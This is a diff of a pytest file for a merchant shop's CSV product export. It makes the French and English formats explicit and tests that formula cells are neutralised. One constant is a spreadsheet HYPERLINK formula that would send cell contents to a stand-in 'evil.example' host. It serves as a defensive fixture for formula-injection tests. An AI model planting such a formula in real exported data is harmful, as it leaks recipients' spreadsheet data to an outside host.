@@ -6,10 +6,16 @@ import io
 import pytest
 
 from marketplace.extensions import db
-from tests.conftest import alerts, post_form
+from tests.conftest import alerts, english_client, post_form
 from tests.factories import login, make_product, make_shop, shop_state
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici")'
+
+
+@pytest.fixture
+def client(app):
+    """The messages below are checked in English: this browser asks for English pages."""
+    return english_client(app)
 
 
 @pytest.fixture
@@ -36,9 +42,9 @@ def shop(app, client):
     return shop
 
 
-def export(client, shop, fmt=None):
+def export(client, shop, fmt="fr"):
     url = f"/merchant/shops/{shop.slug}/products/export.csv"
-    response = client.get(url, query_string={"format": fmt} if fmt else None)
+    response = client.get(url, query_string={"format": fmt})
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
     assert "attachment" in response.headers["Content-Disposition"]
@@ -52,7 +58,7 @@ def rows_of(data: bytes, delimiter: str) -> list[dict]:
 
 
 def test_the_french_export_uses_semicolons_and_decimal_commas(app, client, shop):
-    rows = {r["sku"] or r["name"]: r for r in rows_of(export(client, shop), ";")}
+    rows = {r["sku"] or r["name"]: r for r in rows_of(export(client, shop, "fr"), ";")}
     assert rows["HUILE-1"]["price"] == "18,90"
     assert rows["HUILE-1"]["stock"] == "12"
     assert rows["HUILE-1"]["description"] == "Première pression à froid.\nBouteille de 75 cl."
@@ -67,7 +73,7 @@ def test_the_english_export_uses_commas_and_decimal_points(app, client, shop):
 
 
 def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(app, client, shop):
-    for fmt, delimiter in ((None, ";"), ("en", ",")):
+    for fmt, delimiter in (("fr", ";"), ("en", ",")):
         rows = rows_of(export(client, shop, fmt), delimiter)
         cells = [cell for row in rows for cell in row.values()]
         assert "'" + FORMULA in cells
@@ -77,7 +83,7 @@ def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(app, client, 
         assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
 
 
-@pytest.mark.parametrize("fmt", [None, "en"])
+@pytest.mark.parametrize("fmt", ["fr", "en"])
 def test_export_then_import_changes_nothing(app, client, shop, fmt):
     before = shop_state(shop.id)
     data = export(client, shop, fmt)
